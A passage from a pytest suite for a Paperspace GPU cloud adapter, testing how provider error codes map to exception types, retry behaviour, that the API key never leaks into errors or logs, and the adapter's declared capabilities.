    with pytest.raises(NotFound, match="Machine not found"):
        await adapter.stop("nope")


async def test_logs_unsupported(adapter: PaperspaceAdapter, server: Server) -> None:
    with pytest.raises(Unsupported, match="no machine logs"):
        await adapter.logs("ps1")
    assert server.requests == []


# -- errors -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("status", "code", "message", "kind"),
    [
        (404, "NOT_FOUND", "Machine not found", NotFound),
        (401, "UNAUTHORIZED", "Invalid API key", AuthError),
        (403, "FORBIDDEN", "You need approval for H100", AuthError),
        (
            400,
            "BAD_REQUEST",
            "Machine type A100-80G is not available in this region",
            CapacityError,
        ),
        (400, "BAD_REQUEST", "There is no capacity right now", CapacityError),
        (400, "BAD_REQUEST", "diskSize must be one of 50, 100", InvalidRequest),
        (409, "CONFLICT", "This machine is currently starting.", InvalidRequest),
        (500, "INTERNAL_SERVER_ERROR", "oops", ProviderUnavailable),
        (418, "TOO_MANY_REQUESTS", "slow down", RateLimited),
        # 200 bodies that are nothing but an error are errors too
        (200, "NOT_FOUND", "Machine not found", NotFound),
    ],
)
def test_error_codes(status: int, code: str, message: str, kind: type[ProviderError]) -> None:
    error = error_from_body(status, {"code": code, "message": message})
    assert type(error) is kind
    assert error.provider == PAPERSPACE


def test_errors_left_to_the_shared_mapping() -> None:
    # 429 keeps Retry-After handling in the shared layer
    assert error_from_body(429, {"code": "TOO_MANY_REQUESTS", "message": "x"}) is None
    assert error_from_body(400, {"message": "no code"}) is None
    assert error_from_body(400, "text") is None
    assert error_from_body(418, {"code": "SOMETHING_NEW", "message": "x"}) is None
    # a normal 2xx body with a `code` field is not an error
    assert error_from_body(200, {"code": "NOT_FOUND", "message": "m", "items": []}) is None


def test_error_issues_are_included() -> None:
    error = error_from_body(
        400,
        {
            "code": "BAD_REQUEST",
            "message": "Invalid input",
            "issues": [{"message": "region: required"}],
        },
    )
    assert isinstance(error, InvalidRequest)
    assert error.message == "Invalid input; region: required"


@pytest.mark.parametrize(
    ("status", "body", "kind"),
    [
        (401, error_body("UNAUTHORIZED", "Invalid API key"), AuthError),
        (403, error_body("FORBIDDEN", "Forbidden"), AuthError),
        (429, error_body("TOO_MANY_REQUESTS", "Too many requests"), RateLimited),
        (404, load("error_not_found.json"), NotFound),
    ],
)
async def test_errors_through_the_adapter(
    adapter: PaperspaceAdapter,
    server: Server,
    sleeps: list[float],
    status: int,
    body: Any,
    kind: type[ProviderError],
) -> None:
    server.json("GET", "/v1/machines", body, status=status)
    with pytest.raises(kind):
        await adapter.list_instances()
    if kind is RateLimited:
        assert len(sleeps) == 3  # retried by the shared layer, then given up
    else:
        assert sleeps == []


async def test_auth_error_names_the_env_var(adapter: PaperspaceAdapter, server: Server) -> None:
    server.json("GET", "/v1/machines", error_body("UNAUTHORIZED", "bad"), status=401)
    with pytest.raises(AuthError, match="PAPERSPACE_API_KEY"):
        await adapter.list_instances()


async def test_key_never_leaks(
    adapter: PaperspaceAdapter, server: Server, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    echo = f"key {KEY} is not valid"
    failures: list[tuple[str, httpx.Response]] = [
        ("/v1/machines", httpx.Response(400, json=error_body("BAD_REQUEST", echo))),
        ("/v1/machines", httpx.Response(401, json=error_body("UNAUTHORIZED", echo))),
        ("/v1/machines", httpx.Response(403, json=error_body("FORBIDDEN", echo))),
        ("/v1/machines", httpx.Response(400, json=error_body("BAD_REQUEST", f"no capacity {KEY}"))),
        ("/v1/machines", httpx.Response(200, text=f"<html>{KEY}</html>")),
        ("/v1/machines", httpx.Response(418, text=echo)),
        ("/v1/machines", httpx.Response(200, json={"unexpected": KEY})),
    ]
    errors: list[ProviderError] = []
    for path, response in failures:
        server.routes.clear()
        server.on("GET", path, response)
        with pytest.raises(ProviderError) as info:
            await adapter.list_instances()
        errors.append(info.value)
    server.routes.clear()
    server.json("GET", "/v1/os-templates", load("os_templates.json"))
    server.json("POST", "/v1/machines", error_body("BAD_REQUEST", echo), status=400)
    with pytest.raises(ProviderError) as info:
        await adapter.launch(spec_for("A4000@NY2"))
    errors.append(info.value)

    for error in errors:
        assert KEY not in str(error)
        assert KEY not in repr(error)
        assert KEY not in error.message
    assert KEY not in repr(adapter)
    assert KEY not in repr(adapter.http)
    assert KEY not in caplog.text


# -- shape of the adapter ---------------------------------------------------------------


async def test_protocols_and_meta(adapter: PaperspaceAdapter) -> None:
    assert isinstance(adapter, OfferSource)
    assert isinstance(adapter, InstanceControl)
    assert adapter.name == PAPERSPACE
    assert adapter.meta is META
    assert adapter.is_demo is False
    caps = META.capabilities
    assert caps == Capabilities(
        stop_start=True,
        restart=True,
        auto_shutdown=True,
        storage_billed_separately=True,
        ssh_public_key=True,
    )
    assert META.default_base_url == BASE
